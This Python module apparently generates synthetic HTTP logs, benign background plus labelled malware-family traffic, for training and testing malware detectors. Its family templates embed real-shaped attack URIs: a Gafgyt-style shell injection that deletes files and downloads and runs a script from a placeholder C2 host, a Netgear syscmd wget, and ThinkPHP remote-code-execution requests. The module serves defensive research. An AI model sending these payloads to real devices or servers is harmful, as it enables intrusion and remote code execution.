"""Deterministic synthetic HTTP traffic: benign background plus malware families.

The family templates are loosely shaped after public descriptions of IoT
botnet downloaders, web-exploit scanners, exfiltration beacons and DGA
malware.  They are synthetic and make no claim of fidelity to real
captures; what matters is that families differ from the background and
from each other in a controlled way.
"""

from __future__ import annotations

import hashlib
import json
import logging
import re
import string
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Sequence

import numpy as np

from ._rng import derive_rng, fnv1a64
from .errors import ConfigError
from .logmodel import Label, LogRecord, record_to_tsv, write_log_file

log = logging.getLogger(__name__)

WINDOW_SECONDS = 1800
BASE_TIME = 1_600_000_000.0

_WORDS = (
    "news sport video shop cloud mail maps photo music game travel book food health bank "
    "market tech code data learn school city weather social blog forum wiki media home garden "
    "auto style daily world global local smart fast green blue open net web app store studio "
    "press radio tv film art design craft trade work job career money invest crypto stock "
    "science space energy sound voice chat stream live play kids pets sale deal price best top"
).split()
_SYLLABLES = "ka ri to mi na lo pe su ve da ko ne ra ti bo la mu si de ro ga zu fi ba no".split()
_BENIGN_TLDS = ("com", "com", "com", "org", "net", "io", "co.uk", "de", "edu", "info")
_PUBLIC_FIRST_OCTETS = (13, 23, 31, 34, 35, 52, 54, 64, 91, 104, 142, 151, 157, 162, 185, 199, 203, 216)
_BROWSER_UAS = (
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.88 Safari/537.36", 30),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:119.0) Gecko/20100101 Firefox/119.0", 12),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15", 12),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36 Edg/118.0.2088.76", 8),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1", 10),
    ("Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.80 Mobile Safari/537.36", 10),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36", 5),
    ("Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1", 3),
    ("Microsoft-CryptoAPI/10.0", 3),
    ("Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50", 2),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 1),
)
_BENIGN_URIS = (
    ("/", 10),
    ("/index.html", 3),
    ("/static/{word}/{word}.{jsext}", 10),
    ("/images/{word}_{int}.{imgext}", 10),
    ("/api/v{small}/{word}?id={int}&page={small}", 6),
    ("/{word}/{word}-{word}-{int}.html", 8),
    ("/search?q={word}+{word}&lang=en", 4),
    ("/favicon.ico", 3),
    ("/cdn-cgi/{word}.js?v={hex8}", 3),
    ("/update/{word}/version.json", 2),
    ("/{word}/{word}/", 5),
)
_EXT_CTYPE = {
    "js": "application/javascript",
    "css": "text/css",
    "jpg": "image/jpeg",
    "png": "image/png",
    "gif": "image/gif",
    "json": "application/json",
    "ico": "image/x-icon",
}


_CDF_CACHE: dict[int, tuple[object, np.ndarray]] = {}


def _cdf(items: Sequence) -> np.ndarray:
    hit = _CDF_CACHE.get(id(items))
    if hit is None or hit[0] is not items:
        cdf = np.cumsum([w for _, w in items], dtype=np.float64)
        hit = (items, cdf / cdf[-1])
        _CDF_CACHE[id(items)] = hit
    return hit[1]


def _weighted(rng: np.random.Generator, items: Sequence[tuple[object, float]]):
    cdf = _cdf(items)
    return items[min(int(np.searchsorted(cdf, rng.random(), side="right")), len(items) - 1)][0]


def _fill(template: str, rng: np.random.Generator, extra: dict | None = None) -> str:
    def repl(m: re.Match) -> str:
        key = m.group(1)
        if extra and key in extra:
            return str(extra[key])
        if key == "word":
            return _WORDS[int(rng.integers(len(_WORDS)))]
        if key == "int":
            return str(int(rng.integers(1, 100_000)))
        if key == "small":
            return str(int(rng.integers(1, 10)))
        if key.startswith("hex"):
            n = int(key[3:])
            return "".join("0123456789abcdef"[i] for i in rng.integers(16, size=n))
        if key == "b64":
            alphabet = string.ascii_letters + string.digits + "+/"
            return "".join(rng.choice(list(alphabet), int(rng.integers(24, 64)))) + "=="
        if key == "jsext":
            return "js" if rng.random() < 0.7 else "css"
        if key == "imgext":
            return ("jpg", "png", "gif")[int(rng.integers(3))]
        if key == "arch":
            return ("arm", "arm7", "mips", "mpsl", "x86", "ppc", "m68k", "sh4")[int(rng.integers(8))]
        raise ConfigError(f"unknown template field {{{key}}}")

    return re.sub(r"\{(\w+)\}", repl, template)


def _host_ip(host: str) -> str:
    h = fnv1a64(host)
    first = _PUBLIC_FIRST_OCTETS[h % len(_PUBLIC_FIRST_OCTETS)]
    return f"{first}.{(h >> 8) & 255}.{(h >> 16) & 255}.{1 + ((h >> 24) % 254)}"


def _benign_hosts(n: int = 3000) -> list[str]:
    rng = derive_rng(7, "benign-hosts")
    hosts, seen = [], set()
    while len(hosts) < n:
        name = "".join(_SYLLABLES[int(i)] for i in rng.integers(len(_SYLLABLES), size=int(rng.integers(2, 4))))
        if rng.random() < 0.5:
            name = _WORDS[int(rng.integers(len(_WORDS)))] + name
        sub = ("www", "www", "cdn", "static", "api", "img", "m", "")[int(rng.integers(8))]
        host = ".".join(p for p in (sub, name, _BENIGN_TLDS[int(rng.integers(len(_BENIGN_TLDS)))]) if p)
        if host not in seen:
            seen.add(host)
            hosts.append(host)
    return hosts


_HOSTS = _benign_hosts()
_HOST_CDF = np.cumsum(1.0 / np.arange(1, len(_HOSTS) + 1) ** 1.1)
_HOST_CDF /= _HOST_CDF[-1]


def _popular_host(rng: np.random.Generator) -> str:
    return _HOSTS[min(int(np.searchsorted(_HOST_CDF, rng.random(), side="right")), len(_HOSTS) - 1)]


# Non-browser benign clients: updaters, API clients, telemetry and ad pixels.
# They share user agents, content types and URL shapes with the malware
# templates so that the benign class is not trivially separable.
_AUTOMATION = (
    dict(
        hosts=("{ip}",),
        uris=(("/bin/{arch}", 3), ("/{word}/{arch}.bin", 2), ("/update.sh", 1)),
        uas=(("Wget(linux)", 3), ("Wget/1.20.3 (linux-gnu)", 1)),
        methods=(("GET", 1),),
        ctypes=(("application/octet-stream", 1),),
        ports=((80, 1),),
        resp=(11.0, 0.8),
        weight=2,
        version=1.0,
    ),
    dict(
        hosts=("update.{name}.com", "fw.{name}.net", "dl.{name}.io"),
        uris=(("/firmware/{word}/v{small}.{small}.bin", 3), ("/update/{word}.sh", 1), ("/{word}/{arch}/latest", 1)),
        uas=(("Wget/1.20.3 (linux-gnu)", 2), ("curl/7.68.0", 2), ("Wget(linux)", 1)),
        methods=(("GET", 1),),
        ctypes=(("application/octet-stream", 3), ("text/plain", 1)),
        ports=((80, 3), (8080, 1)),
        resp=(10.0, 1.0),
        weight=3,
    ),
    dict(
        hosts=("api.{name}.com", "rest.{name}.io"),
        uris=(("/api/v{small}/{word}?token={hex16}", 3), ("/v{small}/{hex8}", 2), ("/{word}/{hex4}/{hex8}.json", 1)),
        uas=(("python-requests/2.28.1", 2), ("Go-http-client/1.1", 2), ("Java/1.8.0_351", 1)),
        methods=(("GET", 2), ("POST", 1)),
        ctypes=(("application/json", 3), ("application/octet-stream", 1)),
        ports=((80, 2), (8080, 1), (8443, 1)),
        resp=(7.0, 1.0),
        weight=3,
    ),
    dict(
        hosts=("telemetry.{name}.com", "stats.{name}.info", "log.{name}.biz"),
        uris=(("/collect/{hex8}.php?id={hex16}&v={small}", 3), ("/{word}/report.php?id={hex16}", 1)),
        uas=(("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)", 2), ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)", 1)),
        methods=(("POST", 3), ("GET", 1)),
        ctypes=(("text/html", 2), ("application/json", 1)),
        ports=((80, 1),),
        resp=(5.0, 0.8),
        weight=2,
    ),
    dict(
        hosts=("ads.{name}.com", "px.{name}.net", "track.{name}.com"),
        uris=(("/pixel.gif?{hex8}", 2), ("/__utm.gif?utmac=ua-{int}&utmcn=1&utmcs=utf-8", 2), ("/js/{word}.min.js", 1)),
        uas=tuple((ua, w) for ua, w in (
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.88 Safari/537.36", 3),
            ("Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko", 1),
        )),
        methods=(("GET", 1),),
        ctypes=(("image/gif", 2), ("application/javascript", 1)),
        ports=((80, 2), (8443, 1)),
        resp=(6.0, 1.5),
        weight=2,
    ),
)
_AUTOMATION_KINDS = tuple((k, a["weight"]) for k, a in enumerate(_AUTOMATION))


def _automation_hosts(n_per_kind: int = 40) -> list[list[str]]:
    rng = derive_rng(7, "automation-hosts")
    out = []
    for kind in _AUTOMATION:
        hosts = []
        for _ in range(n_per_kind):
            name = "".join(_SYLLABLES[int(i)] for i in rng.integers(len(_SYLLABLES), size=int(rng.integers(2, 4))))
            ip = ".".join(str(int(v)) for v in (rng.choice(_PUBLIC_FIRST_OCTETS), *rng.integers(1, 255, size=3)))
            hosts.append(kind["hosts"][int(rng.integers(len(kind["hosts"])))].format(name=name, ip=ip))
        out.append(hosts)
    return out


_AUTO_HOSTS = _automation_hosts()


def _automation_record(rng: np.random.Generator, ts: float) -> LogRecord:
    k = _weighted(rng, _AUTOMATION_KINDS)
    kind = _AUTOMATION[k]
    hosts = _AUTO_HOSTS[k]
    host = hosts[min(int(rng.geometric(0.15)) - 1, len(hosts) - 1)]
    method = _weighted(rng, kind["methods"])
    return LogRecord(
        timestamp=ts,
        external_ip=host if kind["hosts"] == ("{ip}",) else _host_ip(host),
        external_port=_weighted(rng, kind["ports"]),
        method=method,
        host=host,
        uri=_fill(_weighted(rng, kind["uris"]), rng),
        user_agent=_weighted(rng, kind["uas"]),
        status_code=_weighted(rng, ((200, 85), (404, 10), (500, 5))),
        content_type=_weighted(rng, kind["ctypes"]),
        request_len=int(rng.lognormal(7.0, 1.0)) if method == "POST" else 0,
        response_len=int(rng.lognormal(*kind["resp"])),
        trans_depth=1,
        version=kind.get("version", 1.1 if rng.random() < 0.8 else 1.0),
        label=Label.BENIGN,
    )


AUTOMATION_SHARE = 0.12


def _benign_record(rng: np.random.Generator, ts: float) -> LogRecord:
    if rng.random() < AUTOMATION_SHARE:
        return _automation_record(rng, ts)
    host = _popular_host(rng)
    uri = _fill(_weighted(rng, _BENIGN_URIS), rng)
    method = _weighted(rng, (("GET", 90), ("POST", 8), ("HEAD", 2)))
    status = _weighted(rng, ((200, 80), (304, 8), (301, 2), (302, 3), (404, 5), (204, 2)))
    ext = uri.rsplit("?", 1)[0].rsplit(".", 1)[-1] if "." in uri.rsplit("/", 1)[-1] else ""
    ctype = None if status in (204, 304) else _EXT_CTYPE.get(ext, "text/html")
    ua = None if rng.random() < 0.03 else _weighted(rng, _BROWSER_UAS)
    r = rng.random()
    if r < 0.4:
        referer = f"http://{host}/"
    elif r < 0.6:
        other = _popular_host(rng)
        referer = f"https://{other}/{_WORDS[int(rng.integers(len(_WORDS)))]}"
    else:
        referer = None
    port = _weighted(rng, ((80, 93), (8080, 4), (8000, 2), (8888, 1)))
    resp = 0 if status in (204, 304) else int(rng.lognormal(8.5, 1.5))
    req = int(rng.lognormal(6.0, 1.0)) if method == "POST" else 0
    return LogRecord(
        timestamp=ts,
        external_ip=_host_ip(host),
        external_port=port,
        method=method,
        host=host,
        uri=uri,
        referer=referer,
        user_agent=ua,
        status_code=status,
        content_type=ctype,
        request_len=req,
        response_len=resp,
        trans_depth=int(rng.geometric(0.5)),
        version=1.1 if rng.random() < 0.97 else 1.0,
        label=Label.BENIGN,
    )


def generate_background(
    windows: int, rate_per_window: int, seed: int, start_window: int = 0, stream: int = 0
) -> list[LogRecord]:
    """``windows * rate_per_window`` benign records with Zipf host popularity."""
    if rate_per_window <= 0 or windows < 0:
        raise ConfigError("rate_per_window must be > 0 and windows >= 0")
    rng = derive_rng(seed, "background", stream)
    out = []
    for w in range(windows):
        base = BASE_TIME + (start_window + w) * WINDOW_SECONDS
        times = np.sort(rng.uniform(0, WINDOW_SECONDS, rate_per_window))
        out.extend(_benign_record(rng, base + float(t)) for t in times)
    return out


@dataclass(frozen=True)
class FamilyTemplate:
    """Sampler description for one malware family.

    ``host_mode`` is ``fixed`` (cycle through ``domain_pool``), ``dga``
    (pseudo-random names) or ``ip`` (the C2 address is used as host).
    A new infrastructure (domain and IP) is drawn every ``rotation_period``
    windows; ``None`` keeps one infrastructure forever.
    """

    family: str
    host_mode: str
    uri_templates: tuple[tuple[str, float], ...]
    ua_pool: tuple[tuple[str | None, float], ...]
    method_dist: tuple[tuple[str, float], ...] = (("GET", 1.0),)
    status_dist: tuple[tuple[int, float], ...] = ((200, 1.0),)
    ctype_dist: tuple[tuple[str | None, float], ...] = (("text/html", 1.0),)
    request_size: tuple[float, float] = (0.0, 0.0)  # lognormal mean, sigma; 0 = empty body
    response_size: tuple[float, float] = (7.0, 1.0)
    ports: tuple[tuple[int, float], ...] = ((80, 1.0),)
    ip_first_octets: tuple[int, ...] = (185,)
    domain_pool: tuple[str, ...] = ()
    tlds: tuple[str, ...] = ("com",)
    rotation_period: int | None = None
    referer: str | None = None
    version: float = 1.1

    def __post_init__(self) -> None:
        if self.host_mode not in ("fixed", "dga", "ip"):
            raise ConfigError(f"unknown host_mode {self.host_mode!r}")
        if self.host_mode == "fixed" and not self.domain_pool:
            raise ConfigError("fixed host_mode needs a domain pool")
        if self.rotation_period is not None and self.rotation_period < 1:
            raise ConfigError("rotation_period must be >= 1 or None")


FAMILIES: dict[str, FamilyTemplate] = {
    "mirai": FamilyTemplate(
        family="mirai",
        host_mode="ip",
        uri_templates=(("/bins/mirai.{arch}", 5), ("/bins.sh", 1), ("/{arch}", 2)),
        ua_pool=(("Wget(linux)", 3), (None, 1)),
        ctype_dist=(("application/octet-stream", 1.0),),
        response_size=(11.0, 0.5),
        ip_first_octets=(45, 193),
        version=1.0,
    ),
    "gafgyt": FamilyTemplate(
        family="gafgyt",
        host_mode="ip",
        uri_templates=(
            ("/shell?cd+/tmp;rm+-rf+*;wget+http://{c2}/{word}.sh;chmod+777+{word}.sh;sh+{word}.sh", 4),
            ("/GponForm/diag_Form?images/", 2),
            ("/tmUnblock.cgi", 1),
            ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://{c2}/{word}.m&curpath=/", 2),
        ),
        ua_pool=(("Hello, World", 3), ("python-requests/2.20.0", 1)),
        method_dist=(("GET", 3), ("POST", 1)),
        status_dist=((404, 3), (200, 1), (400, 1)),
        ctype_dist=(("text/plain", 1), (None, 1)),
        response_size=(5.0, 1.0),
        ports=((8080, 3), (80, 1)),
        ip_first_octets=(89, 209),
    ),
    "thinkphp": FamilyTemplate(
        family="thinkphp",
        host_mode="fixed",
        uri_templates=(
            ("/index.php?s=/index/think_app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={word}", 4),
            ("/public/index.php?s=index/think_request/input&filter=phpinfo&data={small}", 2),
            ("/tp/public/index.php?s=captcha", 1),
        ),
        ua_pool=(("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", 1),),
        status_dist=((404, 2), (200, 1), (500, 1)),
        response_size=(6.0, 0.8),
        domain_pool=("portal.kaminoro.net", "vps.tilamera.org", "srv.dumoveka.info"),
        ip_first_octets=(121, 222),
    ),
    "exfil": FamilyTemplate(
        family="exfil",
        host_mode="fixed",
        uri_templates=(("/{word}/{hex8}.php?id={hex16}&v={small}", 3), ("/wp-content/{word}/{hex8}.php", 1)),
        ua_pool=(("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)", 1),),
        method_dist=(("POST", 1.0),),
        request_size=(9.0, 1.0),
        response_size=(4.0, 0.5),
        domain_pool=("update.sobirona.info", "cdn.felumaxo.biz", "files.garotesi.info", "mx.limokaro.biz"),
        tlds=("info",),
        ip_first_octets=(5, 94),
        rotation_period=8,
    ),
    "beacon": FamilyTemplate(
        family="beacon",
        host_mode="dga",
        uri_templates=(("/jquery-3.3.1.min.js", 3), ("/__utm.gif?utmac=ua-{int}&utmcn=1&utmcs=iso-8859-1&utmsr={hex4}", 2), ("/pixel.gif", 1)),
        ua_pool=(("Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko", 1),),
        ctype_dist=(("application/javascript", 2), ("image/gif", 1)),
        response_size=(10.0, 0.3),
        ports=((80, 1), (8443, 1)),
        tlds=("com", "net"),
        ip_first_octets=(23, 178),
        rotation_period=6,
        referer="http://{host}/",
    ),
    "dem": FamilyTemplate(
        family="dem",
        host_mode="dga",
        uri_templates=(("/{hex8}", 2), ("/?{hex16}", 1), ("/{hex4}/{hex8}.bin", 1)),
        ua_pool=(("Go-http-client/1.1", 1),),
        status_dist=((200, 2), (404, 1)),
        ctype_dist=(("application/octet-stream", 1), (None, 1)),
        response_size=(7.5, 1.0),
        tlds=("biz", "top", "xyz"),
        ip_first_octets=(46, 103),
        rotation_period=1,
    ),
}


def _infrastructure(template: FamilyTemplate, seed: int, epoch: int) -> tuple[str | None, str]:
    rng = derive_rng(seed, "infra", template.family, epoch)
    ip = f"{template.ip_first_octets[epoch % len(template.ip_first_octets)]}.{int(rng.integers(256))}.{int(rng.integers(256))}.{int(rng.integers(1, 255))}"
    if template.host_mode == "ip":
        return ip, ip
    if template.host_mode == "fixed":
        return template.domain_pool[epoch % len(template.domain_pool)], ip
    name = "".join(rng.choice(list(string.ascii_lowercase), int(rng.integers(10, 17))))
    return f"{name}.{template.tlds[int(rng.integers(len(template.tlds)))]}", ip


def generate_family(
    template: FamilyTemplate, n_events: int, seed: int, windows: int = 1, start_window: int = 0, stream: int = 0
) -> list[LogRecord]:
    """``n_events`` malicious records spread evenly over ``windows`` windows.

    Event ``i`` falls in window ``i * windows // n_events``; infrastructure
    changes every ``rotation_period`` windows (counted from window 0 of the
    scenario, so ``start_window`` shifts the epoch).  Infrastructure depends
    only on ``seed``; ``stream`` selects an independent sample of events
    over the same infrastructure.
    """
    if n_events <= 0:
        raise ConfigError("n_events must be > 0")
    if windows < 1:
        raise ConfigError("windows must be >= 1")
    rng = derive_rng(seed, "family", template.family, start_window, stream)
    infra: dict[int, tuple[str | None, str]] = {}
    out = []
    for i in range(n_events):
        w = start_window + i * windows // n_events
        epoch = 0 if template.rotation_period is None else w // template.rotation_period
        if epoch not in infra:
            infra[epoch] = _infrastructure(template, seed, epoch)
        host, ip = infra[epoch]
        ts = BASE_TIME + w * WINDOW_SECONDS + float(rng.uniform(0, WINDOW_SECONDS))
        method = _weighted(rng, template.method_dist)
        req = int(rng.lognormal(*template.request_size)) if template.request_size[0] > 0 else 0
        mu, sigma = template.response_size
        out.append(
            LogRecord(
                timestamp=ts,
                external_ip=ip,
                external_port=_weighted(rng, template.ports),
                method=method,
                host=host,
                uri=_fill(_weighted(rng, template.uri_templates), rng, {"c2": ip}),
                referer=template.referer.format(host=host) if template.referer else None,
                user_agent=_weighted(rng, template.ua_pool),
                status_code=_weighted(rng, template.status_dist),
                content_type=_weighted(rng, template.ctype_dist),
                request_len=req,
                response_len=int(rng.lognormal(mu, sigma)),
                trans_depth=1,
                version=template.version,
                label=Label.MALICIOUS,
                family=template.family,
            )
        )
    return out


# --- scenarios -------------------------------------------------------------------


@dataclass
class FamilyPlacement:
    """Where a family appears: per-client events per window and who has labels."""

    family: str
    clients: list[int]
    events_per_window: int = 20
    labeled_clients: list[int] | None = None  # None: every holder has labels
    rotation_period: int | None | str = "default"

    def template(self) -> FamilyTemplate:
        if self.family not in FAMILIES:
            raise ConfigError(f"unknown family {self.family!r}; known: {sorted(FAMILIES)}")
        base = FAMILIES[self.family]
        if self.rotation_period == "default":
            return base
        return FamilyTemplate(**{**asdict(base), "rotation_period": self.rotation_period})

    def labeled(self) -> set[int]:
        return set(self.clients if self.labeled_clients is None else self.labeled_clients)


@dataclass
class ScenarioConfig:
    n_clients: int
    windows: int
    benign_per_window: int
    families: list[FamilyPlacement]
    benign_test: int = 2000
    unlabeled_benign_per_window: int = 0
    trust_size: int = 200
    trust_clients: list[int] | None = None  # None: all
    illegitimate_trust: list[int] = field(default_factory=list)
    seed: int = 0

    def __post_init__(self) -> None:
        self.families = [f if isinstance(f, FamilyPlacement) else FamilyPlacement(**f) for f in self.families]
        if self.n_clients < 1 or self.windows < 1 or self.benign_per_window < 1 or self.unlabeled_benign_per_window < 0:
            raise ConfigError("n_clients, windows and benign_per_window must be >= 1")
        for fp in self.families:
            fp.template()
            bad = [c for c in fp.clients + list(fp.labeled()) if not 0 <= c < self.n_clients]
            if bad:
                raise ConfigError(f"family {fp.family}: client index out of range {bad}")
            if not fp.labeled() <= set(fp.clients):
                raise ConfigError(f"family {fp.family}: labeled clients must hold the family")
            if not fp.clients:
                log.warning("family %s is assigned to no client", fp.family)

    def to_json(self) -> dict:
        return asdict(self)


@dataclass
class ClientData:
    client_id: str
    windows: list[list[LogRecord]]
    trust: list[LogRecord]
    trust_legit: bool
    labeled_families: list[str]


@dataclass
class ScenarioData:
    config: ScenarioConfig
    clients: list[ClientData]
    test_sets: dict[str, list[LogRecord]]
    truth: dict[str, tuple[Label, str | None]]
    manifest: dict

    def test_set(self, family: str | None = None) -> list[LogRecord]:
        """Benign test records plus one family's (or every family's) test records."""
        if family is None:
            return [r for recs in self.test_sets.values() for r in recs]
        return self.test_sets["benign"] + self.test_sets[family]


def _with(record: LogRecord, **changes) -> LogRecord:
    return LogRecord(**{**record.__dict__, **changes})


def _sha256(records: Sequence[LogRecord]) -> str:
    h = hashlib.sha256()
    for r in records:
        h.update(record_to_tsv(r).encode("utf-8"))
        h.update(b"\n")
    return h.hexdigest()


def client_name(i: int) -> str:
    return f"client{i:02d}"


def assemble_scenario(config: ScenarioConfig) -> ScenarioData:
    """Build per-client windows, family test splits, trust sets and a manifest.

    Each window of each family yields ``train + round(train / 4)`` events,
    where ``train`` is the per-window total over its clients; the first part
    is dealt round-robin to the clients, the rest goes to the test set.
    Records of a family at a client without its labels are stored as
    Unlabeled; their true label lives only in ``truth``.
    """
    seed = config.seed
    T = config.windows
    # (true record, visible to the client as labeled?)
    pending: list[list[list[tuple[LogRecord, bool]]]] = [[[] for _ in range(T)] for _ in range(config.n_clients)]
    test_sets: dict[str, list[LogRecord]] = {}
    split_counts = {}

    for c in range(config.n_clients):
        bg = generate_background(T, config.benign_per_window, seed * 1000 + c + 1)
        for k, r in enumerate(bg):
            pending[c][k // config.benign_per_window].append((r, True))
        if config.unlabeled_benign_per_window:
            extra = generate_background(T, config.unlabeled_benign_per_window, seed * 1000 + c + 1, stream=1)
            for k, r in enumerate(extra):
                pending[c][k // config.unlabeled_benign_per_window].append((r, False))

    for fp in config.families:
        if not fp.clients:
            continue
        train_w = fp.events_per_window * len(fp.clients)
        test_w = round(train_w / 4)
        per_w = train_w + test_w
        recs = generate_family(fp.template(), per_w * T, seed, windows=T)
        rng = derive_rng(seed, "split", fp.family)
        labeled = fp.labeled()
        tests = []
        for w in range(T):
            chunk = recs[w * per_w : (w + 1) * per_w]
            order = rng.permutation(per_w)
            for j, idx in enumerate(order[:train_w]):
                c = fp.clients[j % len(fp.clients)]
                pending[c][w].append((chunk[idx], c in labeled))
            tests.extend(chunk[i] for i in order[train_w:])
        test_sets[fp.family] = [_with(r, uid=f"test-{fp.family}-{k:06d}") for k, r in enumerate(tests)]
        split_counts[fp.family] = {"train": train_w * T, "test": test_w * T}

    test_sets["benign"] = [
        _with(r, uid=f"test-benign-{k:06d}")
        for k, r in enumerate(generate_background(1, config.benign_test, seed * 1000 + 999_999, start_window=T))
    ]

    truth: dict[str, tuple[Label, str | None]] = {}
    clients = []
    trust_clients = set(range(config.n_clients) if config.trust_clients is None else config.trust_clients)
    for c in range(config.n_clients):
        name = client_name(c)
        cw = []
        for w in range(T):
            out = []
            for k, (r, visible) in enumerate(sorted(pending[c][w], key=lambda p: p[0].timestamp)):
                uid = f"{name}-w{w + 1:03d}-{k:05d}"
                truth[uid] = (r.label, r.family)
                out.append(_with(r, uid=uid) if visible else _with(r, uid=uid, label=Label.UNLABELED, family=None))
            cw.append(out)
        fams = sorted(fp.family for fp in config.families if c in fp.labeled())
        trust = _trust_set(config, c, fams) if c in trust_clients else []
        clients.append(ClientData(name, cw, trust, c not in set(config.illegitimate_trust), fams))
    for recs in test_sets.values():
        for r in recs:
            truth[r.uid] = (r.label, r.family)

    manifest = {
        "seed": seed,
        "config": config.to_json(),
        "config_sha256": hashlib.sha256(json.dumps(config.to_json(), sort_keys=True).encode()).hexdigest(),
        "splits": split_counts,
        "clients": {
            cd.client_id: {
                "windows": [
                    {
                        "benign": sum(r.label is Label.BENIGN for r in recs),
                        "malicious": sum(r.label is Label.MALICIOUS for r in recs),
                        "unlabeled": sum(r.label is Label.UNLABELED for r in recs),
                    }
                    for recs in cd.windows
                ],
                "trust": len(cd.trust),
                "trust_legit": cd.trust_legit,
                "sha256": _sha256([r for recs in cd.windows for r in recs]),
            }
            for cd in clients
        },
        "test_sets": {k: {"n": len(v), "sha256": _sha256(v)} for k, v in sorted(test_sets.items())},
    }
    return ScenarioData(config, clients, test_sets, truth, manifest)


def _trust_set(config: ScenarioConfig, c: int, families: list[str]) -> list[LogRecord]:
    """Verified labeled slice: half benign, half the client's known families."""
    n = config.trust_size
    n_mal = n // 2 if families else 0
    recs = generate_background(1, n - n_mal, config.seed * 1000 + 500_000 + c, start_window=0)
    for i, fam in enumerate(families):
        share = n_mal // len(families) + (1 if i < n_mal % len(families) else 0)
        if share:
            placement = next(fp for fp in config.families if fp.family == fam)
            recs += generate_family(placement.template(), share, config.seed, windows=1, stream=1 + c)
    return [_with(r, uid=f"trust-{client_name(c)}-{k:04d}") for k, r in enumerate(recs)]


def write_scenario(data: ScenarioData, out_dir: str | Path, format: str = "tsv") -> Path:
    """Write client windows, trust and test sets, ground truth and the manifest."""
    out = Path(out_dir)
    ext = "log" if format == "tsv" else "jsonl"
    for cd in data.clients:
        cdir = out / "clients" / cd.client_id
        cdir.mkdir(parents=True, exist_ok=True)
        for w, recs in enumerate(cd.windows, start=1):
            write_log_file(recs, cdir / f"window_{w:03d}.{ext}", format)
        write_log_file(cd.trust, cdir / f"trust.{ext}", format)
    tdir = out / "test"
    tdir.mkdir(parents=True, exist_ok=True)
    for name, recs in sorted(data.test_sets.items()):
        write_log_file(recs, tdir / f"{name}.{ext}", format)
    with open(out / "truth.tsv", "w", encoding="utf-8") as fh:
        fh.write("uid\tlabel\tfamily\n")
        for uid in sorted(data.truth):
            label, family = data.truth[uid]
            fh.write(f"{uid}\t{label.value}\t{family or '-'}\n")
    (out / "manifest.json").write_text(json.dumps(data.manifest, indent=1, sort_keys=True), encoding="utf-8")
    return out
